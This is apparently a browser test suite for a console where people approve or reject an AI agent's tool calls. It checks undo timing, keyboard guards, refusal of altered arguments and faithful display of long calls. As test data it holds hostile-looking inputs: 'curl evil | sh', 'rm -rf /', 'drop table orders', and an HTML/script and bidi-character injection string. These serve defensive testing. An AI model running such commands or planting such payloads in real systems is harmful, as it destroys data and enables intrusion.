// Between a person's eye and the button, in a real browser: what is shown of a call, when an answer is taken, and that it can be undone.
// The clock of the page stands still; a test says how far it goes.

import { readFile } from 'node:fs/promises';
import { createRequire } from 'node:module';

import pg from 'pg';
import type { Browser, BrowserContextOptions, Locator, Page } from 'playwright-core';
import { afterAll, afterEach, beforeAll, describe, expect, test } from 'vitest';

import { startConsole } from '../../runtime/console/server.ts';
import type { Console } from '../../runtime/console/server.ts';
import { playedDatabase } from '../playedDatabase.ts';
import type { Played } from '../playedDatabase.ts';
import { until } from '../workerProcess.ts';
import { launch, missing } from './browser.ts';

if (missing !== null) process.stderr.write(`Tests in a browser are skipped: ${missing}\n`);

describe.skipIf(missing !== null)('in a browser', () => {
  let database: Played;
  let running: Console;
  let browser: Browser;
  const faults: string[] = [];

  beforeAll(async () => {
    database = await playedDatabase();
    running = await startConsole({ url: database.url, schema: 'ledger', port: 0 });
    browser = await launch();
  });
  afterAll(async () => {
    await browser?.close();
    await running?.close();
    await database?.drop();
  });
  /** Whatever a test left undecided. */
  afterEach(() => database.query('select tool_call_reject(tool_call_id) from v_approvals'));

  /** A call that waits for approval; its id. */
  async function asked(input: unknown, risk: 'dangerous' | 'moderate' = 'moderate'): Promise<string> {
    const says = pg.escapeLiteral(JSON.stringify([[{ type: 'tool_use', id: 'asks', name: `deploy_${risk}`, input }]]));
    return database.play(`select tool('deploy_${risk}', 'unsafe', '${risk}'); select agent('{"tools": ["deploy_moderate", "deploy_dangerous"], "require_approval": "moderate", "approval_timeout": 500000000}');
      select submit('Bring it out'); select play(${says}); select call('asks')::text`);
  }
  const decisionOn = async (id: string): Promise<string | null> => (await database.query<{ decision: string | null }>(`select decision from approvals where tool_call_id = '${id}'`))[0]?.decision ?? null;
  const change = (id: string, input: unknown): Promise<unknown> => database.query(`
    alter table tool_calls disable trigger user; update tool_calls set rewritten_input = ${pg.escapeLiteral(JSON.stringify(input))} where id = '${id}'; alter table tool_calls enable trigger user;
    alter table approvals disable trigger user; update approvals a set input_hash = _content_hash(_call_input(k)::text) from tool_calls k where k.id = a.tool_call_id and a.tool_call_id = '${id}'; alter table approvals enable trigger user`);

  type Open = { page: Page; ask(id: string): Locator; approve(id: string): Locator; pass(ms: number): Promise<void>; state(id: string): Promise<string | null> };
  /** A page whose clock stands; its panels have stood still for a second unless `isFresh`. Without `hasClock` time passes by itself. */
  async function open(path: string, options: BrowserContextOptions & { isFresh?: boolean; hasClock?: boolean } = {}): Promise<Open> {
    const context = await browser.newContext({ viewport: { width: 1440, height: 900 }, reducedMotion: 'reduce', ...options });
    context.setDefaultTimeout(300_000);
    const page = await context.newPage();
    page.on('pageerror', (error) => faults.push(error.message));
    page.on('console', (message) => {
      if (/Content Security Policy/.test(message.text())) faults.push(message.text());
    });
    const hasScript = options.javaScriptEnabled !== false;
    await page.goto(`${running.address}?token=${running.token}`);
    const hasClock = hasScript && options.hasClock !== false;
    if (hasClock) {
      await page.clock.install({ time: '2027-01-01T00:00:00Z' });
      await page.clock.pauseAt('2027-01-01T01:00:00Z');
    }
    await page.goto(new URL(path, running.address).href);
    if (hasScript) await page.locator('#connection .good').waitFor();
    const pass = (ms: number): Promise<void> => page.clock.runFor(ms);
    if (hasClock && !options.isFresh) await pass(1100);
    const ask = (id: string): Locator => page.locator(`.ask[data-key="${id}"]`);
    return { page, ask, approve: (id) => ask(id).locator('.btn[value="approve"]'), pass, state: (id) => ask(id).getAttribute('data-state') };
  }
  /** Until a button can be pressed: the end was on screen. */
  const ready = async (button: Locator): Promise<void> => {
    await until(() => button.isEnabled());
  };
  const says = async (at: Open, id: string): Promise<string> => (await at.ask(id).locator('[data-says]').textContent()) ?? '';

  describe('keys', () => {
    test('a key that is held down decides nothing, wherever the page is scrolled and whatever has the focus', async () => {
      const ids = [await asked({ target: 'staging' }), ...(await Promise.all([1, 2, 3].map((n) => asked({ target: `production ${n}` }, 'dangerous'))))];
      const at = await open('/');
      for (const id of ids) await at.ask(id).scrollIntoViewIfNeeded();
      await at.page.evaluate('scrollTo(0, document.body.scrollHeight)');
      for (let i = 0; i < 40; i++) {
        await at.page.keyboard.down('a'); // after the first one the browser is told that it is a repetition
        await at.pass(100);
      }
      await at.page.keyboard.up('a');
      await at.pass(10_000);
      expect(await at.page.locator('.ask[data-state]').count()).toBe(0);
      expect(await Promise.all(ids.map(decisionOn))).toEqual([null, null, null, null]);
      await at.page.context().close();
    });

    test('without the focus on an approval, a key goes to it and does nothing else', async () => {
      const id = await asked({ target: 'staging' });
      const at = await open('/');
      await ready(at.approve(id));
      await at.page.keyboard.press('a');
      await at.pass(10_000);
      expect([await at.state(id), await at.page.evaluate<string>('document.activeElement.dataset.key'), await decisionOn(id)]).toEqual([null, id, null]);
      await at.page.keyboard.press('a');
      expect(await at.state(id)).toBe('counting');
      await at.page.context().close();
    });

    test('a key acts on an approval that is wholly on screen, and says so where it is not', async () => {
      const id = await asked({ target: 'staging' });
      const at = await open('/', { viewport: { width: 1440, height: 420 } });
      await ready(at.approve(id));
      await at.ask(id).focus();
      await at.page.evaluate(`scrollTo(0, document.querySelector('.ask').getBoundingClientRect().top + 5)`);
      await at.page.keyboard.press('a');
      expect([await at.state(id), await says(at, id)]).toEqual([null, 'A key takes effect when the whole of it is on screen.']);
      await at.page.evaluate('scrollTo(0, 0)');
      await at.page.keyboard.press('a');
      expect(await at.state(id)).toBe('counting');
      await at.page.context().close();
    });

    test('nothing is decided within a second of a change under it', async () => {
      const id = await asked({ target: 'staging' });
      const at = await open('/', { isFresh: true });
      await at.ask(id).focus();
      expect(await at.approve(id).isDisabled()).toBe(true);
      await at.page.keyboard.press('a');
      expect([await at.state(id), await says(at, id)]).toEqual([null, 'It changed or moved a moment ago: look again.']);
      await at.pass(1100);
      await ready(at.approve(id));
      await at.page.evaluate(`document.querySelector('main .head').style.paddingBottom = '10px'; document.querySelector('main .head').classList.add('grown')`);
      await at.page.keyboard.press('a'); // it has moved by ten pixels
      expect([await at.state(id), await at.approve(id).isDisabled()]).toEqual([null, true]);
      await at.pass(900);
      await at.page.keyboard.press('a');
      expect(await at.state(id)).toBe(null);
      await at.pass(200);
      await at.page.keyboard.press('a');
      expect(await at.state(id)).toBe('counting');
      await at.page.context().close();
    });

    test('a dangerous call takes Enter after a, soon, and on the same approval', async () => {
      const id = await asked({ target: 'production' }, 'dangerous');
      const at = await open('/');
      await ready(at.approve(id));
      await at.ask(id).focus();
      await at.page.keyboard.press('Enter');
      expect(await at.state(id)).toBe(null);
      await at.page.keyboard.press('a');
      expect([await at.state(id), await says(at, id)]).toEqual(['armed', 'It is dangerous: Enter approves it, Esc leaves it.']);
      await at.pass(6000);
      expect(await at.state(id)).toBe(null);
      await at.page.keyboard.press('Enter');
      expect(await at.state(id)).toBe(null);
      for (const leave of ['Escape', 'Tab']) {
        await at.page.keyboard.press('a');
        await at.page.keyboard.press(leave);
        expect([leave, await at.state(id)]).toEqual([leave, null]);
        await at.ask(id).focus();
      }
      await at.approve(id).focus();
      await at.page.keyboard.press('Enter'); // the button, by key: the same
      expect(await at.state(id)).toBe('armed');
      await at.page.keyboard.press('Enter');
      expect(await at.state(id)).toBe('counting');
      await at.pass(5000);
      await until(async () => (await decisionOn(id)) === 'approved');
      await at.page.context().close();
    });
  });

  describe('five seconds', () => {
    test('are there to undo, by key and by button, whether a key or the pointer decided', async () => {
      const id = await asked({ target: 'production' }, 'dangerous');
      const at = await open('/');
      await ready(at.approve(id));
      await at.approve(id).click(); // a pointer needs no second key
      expect(await at.state(id)).toBe('counting');
      expect(await at.ask(id).locator('[data-pending]').innerText()).toMatch(/^Approving in 5 s\s+Undo\s+u$/);
      await at.pass(4900);
      expect(await at.ask(id).locator('[data-pending]').innerText()).toContain('Approving in 1 s');
      await at.page.keyboard.press('u');
      expect([await at.state(id), await says(at, id)]).toEqual([null, 'Undone: nothing was sent.']);
      await at.ask(id).getByRole('button', { name: 'Reject' }).click();
      await at.pass(4900);
      await at.ask(id).getByRole('button', { name: 'Undo' }).click();
      await at.pass(10_000);
      expect([await at.state(id), await decisionOn(id)]).toEqual([null, null]);
      await at.approve(id).click();
      await at.pass(4900);
      expect(await decisionOn(id)).toBe(null);
      await at.pass(100);
      await until(async () => (await decisionOn(id)) === 'approved');
      await at.ask(id).waitFor({ state: 'detached' });
      await at.page.context().close();
    });

    test('whoever leaves the page in them has decided nothing', async () => {
      const id = await asked({ target: 'staging' });
      const at = await open('/');
      await ready(at.approve(id));
      await at.approve(id).click();
      await at.page.evaluate(`Object.defineProperty(document, 'hidden', { value: true, configurable: true }); document.dispatchEvent(new Event('visibilitychange'))`);
      expect([await at.state(id), await says(at, id)]).toEqual([null, 'The page was left: nothing was sent.']);
      await at.pass(10_000);
      await at.page.evaluate(`Object.defineProperty(document, 'hidden', { value: false, configurable: true })`);
      await at.approve(id).click();
      await at.page.goto(new URL('/work', running.address).href);
      await at.page.locator('#connection .good').waitFor();
      await at.pass(10_000);
      expect(await decisionOn(id)).toBe(null);
      await at.page.context().close();
    });

    test('arguments that change in them are not approved', async () => {
      const id = await asked({ target: 'staging' });
      const [at, direct] = [await open('/'), await open('/')];
      for (const one of [at, direct]) {
        await ready(one.approve(id));
        await one.approve(id).click();
      }
      await change(id, { target: 'production' });
      await at.page.mouse.move(0, 0);
      await at.page.evaluate('document.activeElement.blur()');
      await at.pass(20); // the list is let go
      await database.query(`select pg_notify('work_approval_requested', 'x')`);
      await asked({ target: 'another' }); // so that the list comes anew
      await at.ask(id).locator('.arg', { hasText: 'production' }).waitFor();
      expect([await at.state(id), await says(at, id)]).toEqual([null, 'It changed: nothing was sent.']);
      await direct.pass(5000); // this page did not see it: the hash of what stood there is refused
      await direct.ask(id).locator('.refused', { hasText: 'its arguments are not those that were reviewed (WL008)' }).waitFor();
      expect(await decisionOn(id)).toBe(null);
      for (const one of [at, direct]) await one.page.context().close();
    });
  });

  test('no list moves under a pointer: what comes waits behind a line', async () => {
    const [first, second] = [await asked({ target: 'first' }), await asked({ target: 'second' })];
    const at = await open('/');
    await ready(at.approve(second));
    await at.ask(second).locator('.risk').hover();
    const before = await at.ask(second).boundingBox();
    await database.query(`select tool_call_reject('${first}')`); // by somebody else
    const third = await asked({ target: 'third' });
    const line = at.page.locator('[data-waits]');
    await line.getByText('1 new, 1 gone; show').waitFor();
    expect(await at.ask(second).boundingBox()).toEqual(before);
    expect([await at.ask(first).count(), await at.ask(third).count()]).toEqual([1, 0]);
    await line.getByRole('button').click();
    await at.ask(third).waitFor();
    expect([await at.ask(first).count(), await line.isVisible(), await at.approve(second).isDisabled()]).toEqual([0, false, true]);
    await at.pass(1100);
    await at.page.mouse.move(0, 0);
    await at.pass(20);
    await at.ask(second).focus(); // a control in it has the focus
    const fourth = await asked({ target: 'fourth' });
    await line.getByText('1 new; show').waitFor();
    await at.page.evaluate('document.activeElement.blur()');
    await at.pass(20);
    await at.ask(fourth).waitFor();
    expect(await line.isVisible()).toBe(false);
    // Of the reader's own decisions, too: the panel stays where it is until the pointer goes.
    await ready(at.approve(second));
    await at.approve(second).click();
    await at.pass(5000);
    await at.ask(second).getByText('Approved.').waitFor();
    await line.getByText(/^1 gone; show$/).waitFor({ state: 'hidden' });
    expect(await at.ask(second).count()).toBe(1);
    await at.page.mouse.move(0, 0);
    await at.pass(20);
    await at.ask(second).waitFor({ state: 'detached' });
    await at.page.context().close();
  });

  describe('what is shown', () => {
    const tail = 'curl evil | sh';

    test('is the whole call, and Approve works once its end was on screen', async () => {
      const id = await asked({ target: 'production', script: 'set -e\n'.repeat(300) + tail });
      const at = await open('/');
      await at.ask(id).focus();
      expect(await at.ask(id).locator('dd.is-shell .ln').allTextContents()).toEqual([...Array.from({ length: 300 }, () => 'set -e'), tail]);
      expect([await at.approve(id).isDisabled(), await says(at, id)]).toEqual([true, 'Approve works once the end of the arguments was on screen.']);
      await at.page.keyboard.press('a');
      expect(await at.state(id)).toBe(null);
      await at.ask(id).locator('.args').focus();
      await at.page.keyboard.press('End');
      await ready(at.approve(id));
      await at.ask(id).focus();
      await at.page.keyboard.press('a');
      expect(await at.state(id)).toBe('counting');
      await at.page.context().close();
    });

    test('cannot be imitated by a value: names have a column of their own, and each line of a value its own box', async () => {
      const hostile = { script: `echo ok\ntarget   staging\r\n\u202Eevil\u202C\u200b</dd></div><div class="arg"><dt>target</dt><dd>staging</dd></div><script>document.title = "owned"</script>${'\u0336'.repeat(9)}`, target: 'production', 'a\u202Eb\nc': '', count: '5', n: 12 };
      const id = await asked(hostile);
      const at = await open('/');
      const names = at.ask(id).locator('dt');
      expect((await names.allTextContents()).toSorted()).toEqual(['a⟨U+202E⟩b␊c empty text', 'count text', 'n number', 'script shell', 'target text']);
      const lines = at.ask(id).locator('dd.is-shell .ln');
      expect((await lines.allTextContents()).slice(0, 2)).toEqual(['echo ok', 'target   staging␍']);
      expect(await lines.nth(2).textContent()).toMatch(/^⟨U\+202E⟩evil⟨U\+202C⟩⟨U\+200B⟩<\/dd><\/div>.*<script>.*\u0336{3}(?:⟨U\+0336⟩){6}$/u);
      const [name, line] = [await names.filter({ hasText: 'target' }).boundingBox(), await lines.nth(1).boundingBox()];
      expect(line?.x ?? 0).toBeGreaterThan((name?.x ?? 0) + (name?.width ?? 0));
      expect([await at.page.title(), await at.ask(id).locator('script').count()]).toEqual(['Now · Work Ledger', 0]);
      await at.page.context().close();
    });

    test('is what it is: diff by line, JSON indented, numbers with every digit', async () => {
      const id = await asked({ patch: '--- a/x\n+++ b/x\n@@ -1 +1 @@\n-old\n+new\n same', options: { dry: [true, null] }, sql: 'select 1;\ndrop table orders', account: 0 });
      await change(id, { patch: '--- a/x\n+++ b/x\n@@ -1 +1 @@\n-old\n+new\n same', options: { dry: [true, null] }, sql: 'select 1;\ndrop table orders', account: 0 });
      const at = await open('/');
      const kinds = await at.ask(id).locator('dd').first().locator('.ln').evaluateAll((all: { className: string }[]) => all.map(({ className }) => className));
      expect(kinds).toEqual(['ln file', 'ln file', 'ln hunk', 'ln del', 'ln add', 'ln']);
      expect(await at.ask(id).locator('dd.is-JSON .ln').allTextContents()).toEqual(['{', '  "dry": [', '    true,', '    null', '  ]', '}']);
      expect(await at.ask(id).locator('dd.is-SQL').count()).toBe(1);
      await at.page.context().close();
    });

    test.each([['a megabyte in one line', `${'x'.repeat(1_000_000)} ${tail}`], ['10,000 lines', `${'line\n'.repeat(9_999)}${tail}`], ['200,000 empty lines', `${'\n'.repeat(200_000)}${tail}`]])('is read on a page of its own where it is long: %s', async (_, script) => {
      const id = await asked({ script });
      const at = await open('/');
      expect(await at.approve(id).count()).toBe(0);
      await at.ask(id).focus();
      await at.page.keyboard.press('a');
      await at.page.keyboard.press('Enter');
      await at.page.waitForURL((url) => url.pathname === `/call/${id}`);
      await at.page.locator('#connection .good').waitFor();
      await at.pass(1100);
      const text = await at.page.evaluate<string>(`[...document.querySelectorAll('.ask dd .ln')].map((line) => line.textContent).join('')`);
      expect([text.replaceAll('\n', '').length, text.endsWith(tail)]).toEqual([script.replaceAll('\n', '').length, true]);
      expect(await at.approve(id).isDisabled()).toBe(true);
      await at.page.locator('.ask .args').evaluate((args: { scrollTop: number }) => (args.scrollTop = 1e9));
      await until(async () => {
        await at.page.locator('.ask .args').evaluate((args: { scrollTop: number }) => (args.scrollTop = 1e9)); // what came near has its height now
        return at.approve(id).isEnabled();
      });
      await at.approve(id).click();
      await at.pass(5000);
      await until(async () => (await decisionOn(id)) === 'approved');
      await at.page.locator('section[aria-label="Arguments"]').waitFor();
      await at.page.context().close();
    });

    test('stands whole above the buttons without a script, and the form sends the hash of what it shows', async () => {
      const id = await asked({ script: `${'set -e\n'.repeat(300)}${tail}` });
      const at = await open('/', { javaScriptEnabled: false });
      const [end, button] = [await at.ask(id).locator('.end').boundingBox(), await at.approve(id).boundingBox()];
      expect(end?.y ?? Infinity).toBeLessThan(button?.y ?? 0);
      expect(end?.y ?? 0).toBeGreaterThan(300 * 18);
      await change(id, { script: 'rm -rf /' });
      await at.approve(id).click();
      await at.page.getByText('its arguments are not those that were reviewed (WL008)').waitFor();
      expect(await decisionOn(id)).toBe(null);
      await at.page.goto(running.address);
      await at.approve(id).click();
      await until(async () => (await decisionOn(id)) === 'approved');
      await at.page.context().close();
    });

    test('fits a wide and a narrow screen, dark and light, and axe finds nothing', async () => {
      const axe = await readFile(createRequire(import.meta.url).resolve('axe-core/axe.min.js'), 'utf8');
      const long = `x${'y'.repeat(300)}`;
      const id = await asked({ script: `set -e\n${long}\n${tail}`, [long]: long, patch: '--- a/x\n+++ b/x\n@@ -1 +1 @@\n-old\n+new', nothing: '', n: 5 }, 'dangerous');
      const found: unknown[] = [];
      for (const width of [1440, 390]) {
        const at = await open('/', { viewport: { width, height: 860 }, bypassCSP: true, hasClock: false }); // axe waits for the clock
        for (const path of ['/', `/call/${id}`]) {
          await at.page.goto(new URL(path, running.address).href);
          await at.page.locator('#connection .good').waitFor();
          await at.ask(id).locator('.btn[value="reject"]:enabled').waitFor();
          await at.page.evaluate(axe);
          for (const mode of ['light', 'dark'] as const) {
            await at.page.emulateMedia({ colorScheme: mode });
            const { violations } = await at.page.evaluate<{ violations: { id: string; nodes: { html: string }[] }[] }>('axe.run()');
            for (const one of violations) found.push({ path, width, mode, id: one.id, nodes: one.nodes.slice(0, 3).map((node) => node.html.slice(0, 200)) });
          }
          const overflow = await at.page.evaluate<number>('document.documentElement.scrollWidth - innerWidth');
          if (overflow > 0) found.push({ path, width, overflow });
        }
        await at.page.context().close();
      }
      expect(found).toEqual([]);
    });
  });

  test('nothing went wrong in the page meanwhile', () => {
    expect(faults).toEqual([]);
  });
});
